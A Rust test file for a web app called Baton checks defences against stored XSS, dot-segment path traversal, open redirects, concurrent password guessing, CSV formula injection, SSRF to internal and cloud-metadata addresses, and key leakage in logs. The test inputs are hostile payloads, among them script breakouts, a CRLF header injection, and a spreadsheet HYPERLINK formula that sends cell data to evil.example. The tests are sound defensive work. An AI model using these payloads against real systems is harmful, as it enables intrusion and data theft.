//! Baton attacked: stored markup in the served HTML, the headers every
//! answer carries, paths with dot segments, redirects after signing in,
//! guessing passwords at once, ping keys, dependencies that would mute
//! someone else's alerts, formulas in exports, channels aimed inside the
//! network, and keys in the log. Each on both backends. (What runs in a
//! real browser: `end2end/tests/hostile.spec.ts`.)

use std::time::Duration;

use app::model::accounts::Role;
use baton::clock::Clock as _;
use baton::incidents::{Sender, Settings};
use reqwest::StatusCode;
use reqwest::header::{HeaderMap, LOCATION};
use rstest::rstest;
use serde_json::{Value, json};

use crate::helpers::{Backend, TestApp, plain_client, spawn_app, spawn_app_with};
use crate::incidents::Receiver;

const TITLE_BREAKOUT: &str = "Payroll</title><script>window.__pwned=1</script>";
const TEXTAREA_BREAKOUT: &str = "Pays people</textarea><script>window.__pwned=2</script>";

async fn html(client: &reqwest::Client, url: String) -> String {
    let res = client.get(&url).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::OK, "{url}");
    res.text().await.unwrap()
}

#[rstest]
#[case::sqlite(Backend::Sqlite)]
#[case::postgres(Backend::Postgres)]
#[tokio::test]
async fn stored_markup_stays_text_in_titles_and_form_fields(#[case] backend: Backend) {
    let app = spawn_app(backend).await;
    let o = app
        .add_orchestration(json!({
            "name": TITLE_BREAKOUT,
            "owner_id": app.admin_id,
            "purpose": TEXTAREA_BREAKOUT,
            "failure_mode": "</TEXTAREA ><img src=x onerror=alert(1)>",
        }))
        .await;
    let slug = o["slug"].as_str().unwrap().to_owned();
    let res = app
        .put_json(
            &format!("/api/v1/orchestrations/{slug}/runbook"),
            &json!({"body": format!("# Steps\n{TEXTAREA_BREAKOUT}"), "note": "x", "base_revision": 0}),
        )
        .await;
    assert!(res.status().is_success(), "{}", res.status());

    // The page's title (leptos_meta writes it as given: Baton escapes it).
    let page = html(&app.client, app.url(&format!("/orchestrations/{slug}"))).await;
    assert!(
        page.contains("<title>Payroll&lt;/title&gt;&lt;script&gt;window.__pwned=1&lt;/script&gt; · Baton</title>"),
        "{}",
        &page[..page.len().min(3000)]
    );
    assert!(
        !page.contains("<script>window.__pwned"),
        "markup in the page"
    );

    // The edit form's text areas (tachys writes their text as given).
    for path in [
        format!("/orchestrations/{slug}/edit"),
        format!("/orchestrations/{slug}/runbook/edit"),
    ] {
        let page = html(&app.client, app.url(&path)).await;
        assert!(
            page.contains(
                "Pays people&lt;/textarea&gt;&lt;script&gt;window.__pwned=2&lt;/script&gt;"
            ),
            "{path}: the text area's text is not escaped"
        );
        assert!(!page.contains("</textarea><script>"), "{path}: markup");
        assert!(!page.contains("<script>window.__pwned"), "{path}: markup");
        assert!(!page.contains("<img src=x"), "{path}: markup");
    }
}

fn csp(headers: &HeaderMap) -> &str {
    headers
        .get("content-security-policy")
        .map(|v| v.to_str().unwrap())
        .unwrap_or_default()
}

fn assert_common(headers: &HeaderMap, what: &str) {
    assert_eq!(headers["x-content-type-options"], "nosniff", "{what}");
    assert_eq!(headers["referrer-policy"], "same-origin", "{what}");
    assert_eq!(headers["x-frame-options"], "DENY", "{what}");
    let policy = csp(headers);
    for part in ["frame-ancestors 'none'", "base-uri 'none'"] {
        assert!(policy.contains(part), "{what}: {policy}");
    }
}

#[rstest]
#[case::sqlite(Backend::Sqlite)]
#[case::postgres(Backend::Postgres)]
#[tokio::test]
async fn every_answer_carries_the_security_headers(#[case] backend: Backend) {
    let app = spawn_app(backend).await;
    std::fs::create_dir_all(app.site().join("pkg")).unwrap();
    std::fs::write(app.site().join("pkg/baton.css"), "body{}").unwrap();

    // A page: only its own scripts, each with this answer's nonce.
    let res = app.get("/").await;
    assert_eq!(res.status(), StatusCode::OK);
    let headers = res.headers().clone();
    assert_common(&headers, "page");
    let policy = csp(&headers).to_owned();
    for part in [
        "script-src 'self' 'nonce-",
        "'wasm-unsafe-eval'",
        "object-src 'none'",
        "form-action 'self'",
        "default-src 'self'",
    ] {
        assert!(policy.contains(part), "page: {policy}");
    }
    assert!(!policy.contains("unsafe-inline"), "{policy}");
    let nonce = policy
        .split("'nonce-")
        .nth(1)
        .and_then(|rest| rest.split('\'').next())
        .unwrap()
        .to_owned();
    let body = res.text().await.unwrap();
    let scripts = body.matches("<script").count();
    assert!(scripts > 0, "the page has its hydration script");
    assert_eq!(
        body.matches(&format!("nonce=\"{nonce}\"")).count(),
        scripts,
        "every script carries the nonce"
    );
    // A second page gets a nonce of its own.
    let again = app.get("/").await;
    assert_ne!(csp(again.headers()), policy, "the nonce is per answer");

    // The API, an asset, an error, a refusal, ingestion: nothing may run.
    let anonymous = plain_client();
    for (client, path, status) in [
        (&app.client, "/api/v1/orchestrations", StatusCode::OK),
        (&app.client, "/pkg/baton.css", StatusCode::OK),
        (&app.client, "/api/v1/no-such-thing", StatusCode::NOT_FOUND),
        (
            &anonymous,
            "/api/v1/orchestrations",
            StatusCode::UNAUTHORIZED,
        ),
        (&anonymous, "/ping/no-such-key", StatusCode::NOT_FOUND),
        (&anonymous, "/healthz", StatusCode::OK),
    ] {
        let res = client.get(app.url(path)).send().await.unwrap();
        assert_eq!(res.status(), status, "{path}");
        assert_common(res.headers(), path);
        assert!(csp(res.headers()).contains("default-src 'none'"), "{path}");
        assert!(
            res.headers().get("strict-transport-security").is_none(),
            "{path}: HSTS over http"
        );
    }

    // Over https, browsers are told to keep to it.
    let https = spawn_app_with(backend, &["--public-url", "https://baton.example.com"]).await;
    for path in ["/healthz", "/sign-in"] {
        let res = plain_client().get(https.url(path)).send().await.unwrap();
        assert_eq!(
            res.headers()["strict-transport-security"],
            "max-age=31536000",
            "{path}"
        );
    }
}

/// The nonce of `headers`' page policy; fails when it has none.
fn page_nonce(headers: &HeaderMap, what: &str) -> String {
    let policy = csp(headers);
    assert!(
        policy.contains("script-src 'self' 'nonce-"),
        "{what}: {policy}"
    );
    policy
        .split("'nonce-")
        .nth(1)
        .and_then(|rest| rest.split('\'').next())
        .unwrap()
        .to_owned()
}

// Pages rendered side by side, for people of every role, each carry the
// policy of their own nonce: a page whose policy is missing or another's
// runs none of its scripts and never comes alive in the browser.
#[rstest]
#[case::sqlite(Backend::Sqlite)]
#[case::postgres(Backend::Postgres)]
#[tokio::test]
async fn pages_rendered_side_by_side_each_carry_their_own_policy(#[case] backend: Backend) {
    let app = spawn_app(backend).await;
    let (viewer, _) = app.as_new("side-viewer@example.com", Role::Viewer).await;
    let (editor, _) = app.as_new("side-editor@example.com", Role::Editor).await;
    let paths = [
        "/",
        "/orchestrations",
        "/incidents",
        "/inventory",
        "/account",
    ];
    let mut pages = Vec::new();
    for round in 0..8 {
        for (who, client) in [
            ("admin", &app.client),
            ("viewer", &viewer),
            ("editor", &editor),
        ] {
            for path in paths {
                let url = app.url(path);
                pages.push(async move {
                    let res = client.get(url).send().await.unwrap();
                    (format!("{who} {path} (round {round})"), res)
                });
            }
        }
    }
    let answers = futures::future::join_all(pages).await;
    assert_eq!(answers.len(), 8 * 3 * paths.len());
    let mut nonces = std::collections::HashSet::new();
    for (what, res) in answers {
        assert_eq!(res.status(), StatusCode::OK, "{what}");
        let nonce = page_nonce(res.headers(), &what);
        let body = res.text().await.unwrap();
        let scripts = body.matches("<script").count();
        assert!(scripts > 0, "{what}: no script");
        assert_eq!(
            body.matches(&format!("nonce=\"{nonce}\"")).count(),
            scripts,
            "{what}: every script carries the page's own nonce"
        );
        assert!(nonces.insert(nonce), "{what}: a nonce given twice");
    }
}

#[rstest]
#[case::sqlite(Backend::Sqlite)]
#[case::postgres(Backend::Postgres)]
#[tokio::test]
async fn dot_segments_are_resolved_before_anyone_is_let_in(#[case] backend: Backend) {
    let app = spawn_app(backend).await;
    let anonymous = app.browser();
    let addr = app.base.trim_start_matches("http://").to_owned();
    for path in [
        "/pkg/../admin/people",
        "/pkg/%2e%2e/admin/people",
        "/pkg/%2E%2e/admin/people",
        "/ping/../admin/people",
        "/hooks/./../admin/people",
    ] {
        let (status, head) = raw_request(&addr, "GET", path).await;
        assert_eq!(status, 308, "{path}: {head}");
        assert!(
            head.to_ascii_lowercase()
                .contains("\r\nlocation: /admin/people\r\n"),
            "{path}: {head}"
        );
        // Where it leads asks for signing in, as ever.
        let res = anonymous
            .get(app.url("/admin/people"))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::SEE_OTHER);
        assert!(
            res.headers()[LOCATION]
                .to_str()
                .unwrap()
                .starts_with("/sign-in"),
        );
    }
    // A change through dot segments is refused, and changes nothing.
    let (status, head) = raw_request(&addr, "POST", "/pkg/%2e%2e/api/v1/teams").await;
    assert_eq!(status, 400, "{head}");
    assert!(head.contains("`..`"), "{head}");
    assert!(
        app.store.teams().await.unwrap().is_empty(),
        "no team was made"
    );
}

/// Sends `method path` exactly as written (an HTTP client would resolve
/// the dot segments itself, as browsers do) and reads the answer's status
/// and the rest of what came back.
async fn raw_request(addr: &str, method: &str, path: &str) -> (u16, String) {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let mut stream = tokio::net::TcpStream::connect(addr).await.unwrap();
    let request = format!(
        "{method} {path} HTTP/1.1\r\nHost: {addr}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
    );
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    tokio::time::timeout(Duration::from_secs(10), stream.read_to_end(&mut answer))
        .await
        .unwrap()
        .unwrap();
    let answer = String::from_utf8_lossy(&answer).into_owned();
    let status = answer
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    (status, answer)
}

#[rstest]
#[case::sqlite(Backend::Sqlite)]
#[case::postgres(Backend::Postgres)]
#[tokio::test]
async fn after_signing_in_next_stays_on_baton(#[case] backend: Backend) {
    let app = spawn_app(backend).await;
    crate::helpers::create_person(&app.store, &*app.clock, "ada@example.com", Role::Viewer).await;
    for (next, goes_to) in [
        ("/orchestrations?tier=1", "/orchestrations?tier=1"),
        ("//evil.example", "/"),
        ("/\\evil.example", "/"),
        ("/\t/evil.example", "/"),
        ("/%2F/evil.example", "/"),
        ("/%5Cevil.example", "/"),
        ("https://evil.example/", "/"),
        ("/x\r\nSet-Cookie: a=b", "/"),
        ("/café", "/"),
        ("javascript:alert(1)", "/"),
    ] {
        let browser = app.browser();
        let res = browser
            .post(app.url("/sign-in"))
            .form(&[
                ("email", "ada@example.com"),
                ("password", crate::helpers::PASSWORD),
                ("next", next),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::SEE_OTHER, "{next:?}");
        assert_eq!(res.headers()[LOCATION], goes_to, "{next:?}");
        // The same after a wrong password: back to the form, with a next
        // that is safe to follow.
        let res = browser
            .post(app.url("/sign-in"))
            .form(&[
                ("email", "ada@example.com"),
                ("password", "wrong"),
                ("next", next),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::SEE_OTHER, "{next:?}");
        let back = res.headers()[LOCATION].to_str().unwrap();
        assert!(back.starts_with("/sign-in?failed=1&next="), "{back}");
    }
}

#[rstest]
#[case::sqlite(Backend::Sqlite)]
#[case::postgres(Backend::Postgres)]
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn concurrent_guesses_all_count_and_the_owner_signs_in_elsewhere(#[case] backend: Backend) {
    let app = spawn_app_with(backend, &["--trusted-proxies", "127.0.0.1"]).await;
    crate::helpers::create_person(&app.store, &*app.clock, "ada@example.com", Role::Editor).await;
    let from = |address: &'static str, password: &'static str| {
        let browser = app.browser();
        let url = app.url("/sign-in");
        async move {
            browser
                .post(url)
                .header("x-forwarded-for", address)
                .header("accept", "application/json")
                .form(&[("email", "ada@example.com"), ("password", password)])
                .send()
                .await
                .unwrap()
                .status()
        }
    };
    let guesses: Vec<_> = (0..40)
        .map(|_| from("203.0.113.7", "wrong guess"))
        .collect();
    let answers = futures::future::join_all(guesses).await;
    let refused = answers
        .iter()
        .filter(|s| **s == StatusCode::UNAUTHORIZED)
        .count();
    let throttled = answers
        .iter()
        .filter(|s| **s == StatusCode::TOO_MANY_REQUESTS)
        .count();
    assert_eq!(refused + throttled, 40, "{answers:?}");
    assert!(
        refused <= 5,
        "{refused} of 40 guesses were checked: {answers:?}"
    );
    assert!(throttled >= 35, "{answers:?}");

    // From where the guesses came, even the right password waits…
    assert_eq!(
        from("203.0.113.7", crate::helpers::PASSWORD).await,
        StatusCode::TOO_MANY_REQUESTS
    );
    // …but Ada, elsewhere, signs in.
    assert_eq!(
        from("198.51.100.20", crate::helpers::PASSWORD).await,
        StatusCode::OK
    );
    // Per address, across accounts: 20 failures and that address waits.
    for n in 0..20 {
        let browser = app.browser();
        let status = browser
            .post(app.url("/sign-in"))
            .header("x-forwarded-for", "192.0.2.99")
            .header("accept", "application/json")
            .form(&[
                ("email", format!("nobody{n}@example.com").as_str()),
                ("password", "x"),
            ])
            .send()
            .await
            .unwrap()
            .status();
        assert_eq!(status, StatusCode::UNAUTHORIZED, "attempt {n}");
    }
    assert_eq!(
        from("192.0.2.99", crate::helpers::PASSWORD).await,
        StatusCode::TOO_MANY_REQUESTS
    );
}

/// The ping part of an automation as `client` is shown it.
async fn ping_of(app: &TestApp, client: &reqwest::Client, id: i64) -> Value {
    let res = client
        .get(app.url(&format!("/api/v1/automations/{id}")))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    res.json::<Value>().await.unwrap()["ping"].clone()
}

#[rstest]
#[case::sqlite(Backend::Sqlite)]
#[case::postgres(Backend::Postgres)]
#[tokio::test]
async fn ping_keys_are_shown_only_to_those_who_may_use_them(#[case] backend: Backend) {
    let app = spawn_app(backend).await;
    let (viewer, _) = app.as_new("viewer@example.com", Role::Viewer).await;
    let (owner, owner_id) = app.as_new("owner@example.com", Role::Editor).await;
    let (other, _) = app.as_new("other@example.com", Role::Editor).await;
    let o = app
        .add_orchestration(json!({"name": "Billing", "owner_id": owner_id}))
        .await;
    let created = app
        .add_automation(
            json!({"tool": "cron", "external_id": "bill.sh", "name": "Bill",
                               "orchestration_id": o["id"]}),
        )
        .await;
    let id = created["id"].as_i64().unwrap();
    let key = created["ping"]["key"].as_str().unwrap().to_owned();

    assert_eq!(ping_of(&app, &app.client, id).await["key"], key.as_str());
    assert_eq!(ping_of(&app, &owner, id).await["key"], key.as_str());
    assert_eq!(ping_of(&app, &viewer, id).await, Value::Null);
    assert_eq!(ping_of(&app, &other, id).await, Value::Null);

    // A read-only token sees no key, even the admin's; a read-write one does.
    for (scope, shown) in [("read", false), ("write", true)] {
        let token: Value = app
            .post_json("/api/v1/tokens", &json!({"name": scope, "scope": scope}))
            .await
            .json()
            .await
            .unwrap();
        let res = plain_client()
            .get(app.url(&format!("/api/v1/automations/{id}")))
            .bearer_auth(token["token"].as_str().unwrap())
            .send()
            .await
            .unwrap();
        let body: Value = res.json().await.unwrap();
        assert_eq!(body["ping"].is_object(), shown, "{scope}: {body}");
    }

    // The screens: neither the orchestration page's data nor the
    // automation page's HTML carries the key for a viewer.
    for (client, shown) in [(&viewer, false), (&other, false), (&owner, true)] {
        let page: Value = client
            .post(app.url("/rpc/orchestrations/page"))
            .form(&[("slug", o["slug"].as_str().unwrap())])
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        let member = &page["ingestion"][0];
        assert_eq!(member["ping"].is_object(), shown, "{member}");
        assert_eq!(member["ping_hidden"], !shown, "{member}");
        let html = html(client, app.url(&format!("/automations/{id}"))).await;
        assert_eq!(html.contains(&key), shown);
        if !shown {
            assert!(html.contains("shown only to its owners and administrators"));
        }
    }
}

#[rstest]
#[case::sqlite(Backend::Sqlite)]
#[case::postgres(Backend::Postgres)]
#[tokio::test]
async fn a_dependency_needs_the_right_to_change_both_ends(#[case] backend: Backend) {
    let app = spawn_app(backend).await;
    let (mallory, mallory_id) = app.as_new("mallory@example.com", Role::Editor).await;
    let (_, victim_id) = app.as_new("victim@example.com", Role::Editor).await;
    let mine = app
        .add_automation(
            json!({"tool": "cron", "external_id": "m.sh", "name": "Mine",
                               "owner_id": mallory_id}),
        )
        .await;
    let theirs = app
        .add_automation(
            json!({"tool": "cron", "external_id": "v.sh", "name": "Theirs",
                               "owner_id": victim_id}),
        )
        .await;
    let edge = |up: &Value, down: &Value| {
        json!({"upstream": {"kind": "automation", "id": up["id"]},
               "downstream": {"kind": "automation", "id": down["id"]}})
    };
    // Mallory's failing job would hold the victim's alerts back.
    for body in [edge(&mine, &theirs), edge(&theirs, &mine)] {
        let res = mallory
            .post(app.url("/api/v1/dependencies"))
            .json(&body)
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::FORBIDDEN);
        let why: Value = res.json().await.unwrap();
        assert!(
            why["error"].as_str().unwrap().contains("both of its ends"),
            "{why}"
        );
    }
    assert_eq!(app.get_json("/api/v1/dependencies").await, json!([]));
    // An admin's edge: Mallory cannot remove it either.
    let res = app
        .post_json("/api/v1/dependencies", &edge(&mine, &theirs))
        .await;
    assert_eq!(res.status(), StatusCode::CREATED);
    let added: Value = res.json().await.unwrap();
    let res = mallory
        .delete(app.url(&format!("/api/v1/dependencies/{}", added["id"])))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    assert_eq!(
        app.get_json("/api/v1/dependencies")
            .await
            .as_array()
            .unwrap()
            .len(),
        1
    );
    // Both ends hers: she may.
    let also_mine = app
        .add_automation(
            json!({"tool": "cron", "external_id": "m2.sh", "name": "Also mine",
                               "owner_id": mallory_id}),
        )
        .await;
    let res = mallory
        .post(app.url("/api/v1/dependencies"))
        .json(&edge(&mine, &also_mine))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::CREATED);
}

#[rstest]
#[case::sqlite(Backend::Sqlite)]
#[case::postgres(Backend::Postgres)]
#[tokio::test]
async fn exports_cannot_carry_formulas_and_import_back_unchanged(#[case] backend: Backend) {
    let app = spawn_app(backend).await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    app.add_automation(json!({"tool": "cron", "external_id": "+cmd|' /C calc'!A0",
                             "name": formula, "description": "@SUM(1+1)"}))
        .await;
    app.add_orchestration(json!({"name": "-2+3", "purpose": "@ops, see this"}))
        .await;
    let inventory = app
        .get("/api/v1/export/inventory.csv")
        .await
        .text()
        .await
        .unwrap();
    for cell in ["'=HYPERLINK", "'+cmd", "'@SUM"] {
        assert!(inventory.contains(cell), "{cell} not guarded: {inventory}");
    }
    for line in inventory.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} in {line}"
            );
        }
    }
    let orchestrations = app
        .get("/api/v1/export/orchestrations.csv")
        .await
        .text()
        .await
        .unwrap();
    assert!(orchestrations.contains("'-2+3"), "{orchestrations}");
    assert!(
        orchestrations.contains("'@ops, see this"),
        "{orchestrations}"
    );

    // The export imports back as it was: nothing to change.
    let res = app
        .client
        .post(app.url("/api/v1/import/inventory?commit=true"))
        .header("content-type", "text/csv")
        .body(inventory)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let report: Value = res.json().await.unwrap();
    assert_eq!(
        ["new", "updated", "unchanged", "errors"].map(|k| report[k].as_u64().unwrap()),
        [0, 0, 1, 0],
        "{report}"
    );
    let kept = app.get_json("/api/v1/automations").await;
    assert_eq!(kept[0]["name"], formula);
    assert_eq!(kept[0]["external_id"], "+cmd|' /C calc'!A0");
}

#[rstest]
#[case::sqlite(Backend::Sqlite)]
#[case::postgres(Backend::Postgres)]
#[tokio::test]
async fn alert_channels_cannot_reach_inside_the_network(#[case] backend: Backend) {
    let app = spawn_app_with(
        backend,
        &[
            "--allow-private-targets=false",
            "--incident-look-seconds",
            "3600",
        ],
    )
    .await;
    let (ada, ada_id) = app.as_new("ada@example.com", Role::Editor).await;
    for url in [
        "http://127.0.0.1:9/x",
        "http://127.1/x",
        "http://2130706433/x",
        "http://[::1]/x",
        "http://[::ffff:127.0.0.1]/x",
        "http://0.0.0.0/x",
        "http://169.254.169.254/latest/meta-data/",
        "http://10.0.0.8/x",
        "http://localhost:8080/x",
    ] {
        let res = ada
            .post(app.url("/api/v1/account/channels"))
            .json(&json!({"name": "Mine", "kind": "webhook", "url": url}))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY, "{url}");
        let body: Value = res.json().await.unwrap();
        assert!(
            body.to_string().contains("--allow-private-targets"),
            "{url}: {body}"
        );
        let res = app
            .post_json(
                "/api/v1/channels",
                &json!({"name": "Team", "kind": "slack", "url": url, "user_id": ada_id}),
            )
            .await;
        assert_eq!(
            res.status(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "{url} (admin)"
        );
    }
    assert_eq!(app.get_json("/api/v1/channels").await, json!([]));

    // A public address is taken; its owner sees it masked, an admin whole.
    let res = ada
        .post(app.url("/api/v1/account/channels"))
        .json(&json!({"name": "Slack", "kind": "slack",
                      "url": "https://93.184.216.34/services/T000/B000/SECRETTOKEN"}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::CREATED);
    let own: Value = ada
        .get(app.url("/api/v1/account/channels"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(own[0]["url"], "https://93.184.216.34/…");
    assert!(!own.to_string().contains("SECRETTOKEN"));
    let all = app.get_json("/api/v1/channels").await;
    assert!(all.to_string().contains("SECRETTOKEN"), "{all}");
    // (It would be sent to below, and this machine may not reach it.)
    let res = ada
        .delete(app.url(&format!("/api/v1/account/channels/{}", own[0]["id"])))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::NO_CONTENT);

    // A channel kept from when private targets were allowed (an address
    // that now leads inside) is refused again when sent to.
    let receiver = Receiver::start().await;
    let o = app
        .add_orchestration(
            json!({"name": "Close <!channel> & <https://evil.example|click>",
                                  "owner_id": ada_id}),
        )
        .await;
    let automation = app
        .add_automation(
            json!({"tool": "cron", "external_id": "c.sh", "name": "Close",
                               "orchestration_id": o["id"]}),
        )
        .await;
    let inside = app
        .store
        .add_channel(
            &baton::store::NewChannel {
                name: "Old inside hook".to_owned(),
                kind: app::model::incidents::ChannelKind::Slack,
                url: receiver.url("/inside"),
                secret: None,
                user_id: Some(ada_id),
                team_id: None,
                created_by: None,
                created_at: app.clock.now(),
            },
            &baton::audit::Author::command_line().did(
                app.clock.now(),
                "channel.added",
                "channel",
                None,
                "Old inside hook",
            ),
        )
        .await
        .unwrap();
    assert!(inside > 0);
    let key = automation["ping"]["key"].as_str().unwrap();
    let res = plain_client()
        .get(app.url(&format!("/ping/{key}/fail")))
        .send()
        .await
        .unwrap();
    assert!(res.status().is_success());
    app.settle().await;
    let settings = |allow_private_targets| Settings {
        escalate_after: chrono::TimeDelta::minutes(30),
        public_url: "https://baton.example.com".to_owned(),
        cooldown: chrono::TimeDelta::zero(),
        send_budget: Duration::from_secs(10),
        fiscal_calendar: Default::default(),
        allow_private_targets,
    };
    let round = baton::incidents::round(
        &*app.store,
        &Sender::new(false),
        &settings(false),
        app.clock.now(),
    )
    .await
    .unwrap();
    assert_eq!((round.sent, round.retried), (0, 1), "{round:?}");
    assert!(receiver.got("/inside").is_empty(), "nothing reached inside");
    let incidents = app.get_json("/api/v1/incidents").await;
    assert_eq!(incidents["total"], 1, "{incidents}");
    let detail = app
        .get_json(&format!(
            "/api/v1/incidents/{}",
            incidents["incidents"][0]["id"]
        ))
        .await;
    let error = detail["alerts"][0]["last_error"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(error.contains("inside Baton's network"), "{detail}");
    assert!(
        !error.contains("127.0.0.1"),
        "the address is not kept: {error}"
    );

    // Allowed (as these tests' own receivers need), the Slack text arrives
    // escaped: no mention of everyone, no link of the name's own.
    app.clock.advance(chrono::TimeDelta::minutes(5));
    let round = baton::incidents::round(
        &*app.store,
        &Sender::new(true),
        &settings(true),
        app.clock.now(),
    )
    .await
    .unwrap();
    assert_eq!(round.sent, 1, "{round:?}");
    let text = receiver.got("/inside")[0].json()["text"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(
        text.contains("Close &lt;!channel&gt; &amp; &lt;https://evil.example|click&gt;"),
        "{text}"
    );
    assert!(!text.contains("<!channel>"), "{text}");
}

#[rstest]
#[case::sqlite(Backend::Sqlite)]
#[case::postgres(Backend::Postgres)]
#[tokio::test]
async fn refused_ingestion_is_logged_with_its_key_masked(#[case] backend: Backend) {
    let db = crate::helpers::TestDb::new(backend).await;
    let site = tempfile::tempdir().unwrap();
    let baton = crate::helpers::serve(&db.url(), site.path());
    let base = format!("http://{}", baton.addr);
    for path in [
        "/ping/k3yAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "/ping//k3yBBBBBBBBBBBBBBBBBBBBBBBBBBBB/nightly",
        "/p/k3yCCCCCCCCCCCCCCCCCCCCCCCCCCCC/job?state=run",
        "/api/push/k3yDDDDDDDDDDDDDDDDDDDDDDDDDDDD?status=up",
        "/hooks/github/k3yEEEEEEEEEEEEEEEEEEEEEEEEEEEE",
    ] {
        let res = plain_client()
            .post(format!("{base}{path}"))
            .body("x")
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::NOT_FOUND, "{path}");
    }
    // The log is written as the answers go; give it a moment to arrive.
    let mut lines = Vec::new();
    for _ in 0..50 {
        lines = baton.log.lock().unwrap().clone();
        if "ABCDE"
            .chars()
            .all(|l| lines.iter().any(|line| line.contains(&format!("k3y{l}…"))))
        {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let log = lines.join("\n");
    for letter in ['A', 'B', 'C', 'D', 'E'] {
        assert!(
            log.contains(&format!("k3y{letter}…")),
            "no masked {letter} key: {log}"
        );
        assert!(
            !log.contains(&format!("k3y{letter}{letter}")),
            "a key in the log: {log}"
        );
    }
}

#[rstest]
#[case::sqlite(Backend::Sqlite)]
#[case::postgres(Backend::Postgres)]
#[tokio::test]
async fn a_teams_channels_are_its_editors_and_admins(#[case] backend: Backend) {
    let app = spawn_app(backend).await;
    let (member, member_id) = app.as_new("member@example.com", Role::Editor).await;
    let (outsider, _) = app.as_new("outsider@example.com", Role::Editor).await;
    let (viewer, viewer_id) = app.as_new("viewer@example.com", Role::Viewer).await;
    let team: Value = app
        .post_json("/api/v1/teams", &json!({"name": "Finance ops"}))
        .await
        .json()
        .await
        .unwrap();
    for person in [member_id, viewer_id] {
        let res = app
            .client
            .put(app.url(&format!("/api/v1/teams/{}/members/{person}", team["id"])))
            .send()
            .await
            .unwrap();
        assert!(res.status().is_success(), "{}", res.status());
    }
    let room = json!({"name": "Finance room", "kind": "slack",
                      "url": "https://93.184.216.34/services/T/B/TOKEN", "team_id": team["id"]});
    for (client, status) in [
        (&outsider, StatusCode::FORBIDDEN),
        (&viewer, StatusCode::FORBIDDEN),
        (&member, StatusCode::CREATED),
    ] {
        let res = client
            .post(app.url("/api/v1/channels"))
            .json(&room)
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), status);
    }
    let all = app.get_json("/api/v1/channels").await;
    assert_eq!(all.as_array().unwrap().len(), 1, "{all}");
    let id = &all[0]["id"];
    let res = outsider
        .delete(app.url(&format!("/api/v1/channels/{id}")))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    let res = member
        .delete(app.url(&format!("/api/v1/channels/{id}")))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::NO_CONTENT);
    assert_eq!(app.get_json("/api/v1/channels").await, json!([]));
}
